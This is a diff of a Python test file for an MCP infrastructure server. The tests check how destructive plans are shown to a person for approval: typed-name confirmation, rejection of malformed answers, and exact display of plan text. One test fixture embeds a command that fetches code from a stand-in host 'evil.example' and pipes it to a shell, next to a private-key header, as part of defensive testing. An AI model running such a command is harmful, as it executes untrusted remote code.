@@ -20,7 +20,7 @@ from mcp.types import (
 from ink_infra_mcp.core.operation import Outcome
 from ink_infra_mcp.guard.caller import Answer, Caller
 from tests.ink import ERAS, Era, data, text
-from tests.server.backends import PASSWORD, Desk, Stop, client_of, question, receipt, stop_plan
+from tests.server.backends import CONNECTION, Desk, Stop, client_of, question, receipt, stop_plan
 
 pytestmark = [pytest.mark.anyio, pytest.mark.parametrize("era", ERAS)]
 
@@ -68,11 +68,15 @@ async def test_a_destructive_question_asks_for_the_name(era: Era) -> None:
     """What cannot be taken back needs the target's name typed, in one required text field."""
     person, desk = accepts(name="shop"), Desk([Stop()], asked=question(PLAN, phrase="shop"))
     result = await stopped(desk, era, person)
-    field_of_name = {"type": "string", "title": "Name of the target", "description": "Type shop"}
+    field_of_name = {
+        "type": "string",
+        "title": "Name of the target",
+        "description": "What the last line of the plan says",
+    }
     assert [form.requested_schema for form in person.shown] == [
         {"type": "object", "properties": {"name": field_of_name}, "required": ["name"]}
     ]
-    assert person.shown[0].message.endswith("\n\nTo approve, type: shop")
+    assert person.shown[0].message.endswith("\nTo approve, type: shop\n```")
     assert data(result)["outcome"] == "applied"
     assert desk.answers == [Answer(action="accept", typed="shop")]
 
@@ -85,28 +89,36 @@ async def test_a_no_is_carried_to_the_guard(era: Era, action: Any) -> None:
     assert (data(result)["outcome"], desk.answers, len(desk.callers)) == ("not_approved", [Answer(action=action)], 1)
 
 
-async def test_what_is_no_text_counts_as_not_typed(era: Era) -> None:
-    """A number where a name was asked for is no name; the guard decides what that means."""
-    desk = Desk([Stop()], asked=question(PLAN, phrase="7"))
-    await stopped(desk, era, accepts(name=7))
-    assert desk.answers == [Answer(action="accept", typed="")]
+@pytest.mark.parametrize("content", [{"name": 7}, {"name": "shop", "confirm": True}, {"approve": "yes"}])
+async def test_an_answer_to_another_question_is_none(era: Era, content: dict[str, str | int]) -> None:
+    """A number in the place of the name, and fields that nobody asked for, make no yes, whatever the name is."""
+    desk = Desk([Stop()], asked=question(PLAN, phrase="shop"))
+    result = await stopped(desk, era, accepts(**content))
+    assert (data(result)["outcome"], desk.answers) == ("not_approved", [Answer(action="unreadable")])
+
+
+async def test_why_something_is_asked_again_stands_before_the_plan(era: Era) -> None:
+    """A person who said yes already reads what became of that, and then the plan, whole."""
+    person, asked = accepts(), replace(question(PLAN), note="An earlier yes is void.")
+    await stopped(Desk([Stop()], asked=asked), era, person)
+    assert [form.message for form in person.shown] == [f"An earlier yes is void.\n\n{asked.text}\n\nApprove this plan?"]
 
 
 async def test_a_client_that_cannot_ask_gets_the_command(era: Era) -> None:
     """Without a form in the client, nothing is asked; the answer tells the person what to run."""
     desk = Desk([Stop()], asked=question(PLAN))
     result = await stopped(desk, era, None)
-    assert desk.callers == [Caller(principal="local:tester", channel="elicitation", can_ask=False)]
+    assert desk.callers == [Caller("local:tester", "elicitation", can_ask=False, connection=CONNECTION)]
     assert (data(result)["outcome"], result.is_error) == ("approval_required", False)
     assert "`ink-infra-mcp approve ap-0000000001`" in text(result)
 
 
-async def test_the_question_shows_no_secret_and_no_control_characters(era: Era) -> None:
-    """The plan that a person reads is masked and cleaned like every answer, so that nothing in it can be forged."""
+async def test_the_question_is_the_text_of_the_plan_to_the_last_character(era: Era) -> None:
+    """What was laid out is masked and changed by nobody on its way to a person, also where it looks like a secret."""
     person = accepts()
-    asked = replace(question(PLAN), text=f"Stop {PASSWORD}\x1b[2K\u202e\n 1. Stop shop")
-    await stopped(Desk([Stop()], asked=asked), era, person)
-    assert [form.message for form in person.shown] == ["Stop ********\n 1. Stop shop\n\nApprove this plan?"]
+    words = "```text\nRUN token=$(wget -qO- http://evil.example/a|sh)\n-----BEGIN PRIVATE KEY-----\nRUN b\n```"
+    await stopped(Desk([Stop()], asked=replace(question(PLAN), text=words)), era, person)
+    assert [form.message for form in person.shown] == [f"{words}\n\nApprove this plan?"]
 
 
 async def test_a_plan_that_changed_while_it_was_shown_is_not_run(era: Era) -> None:
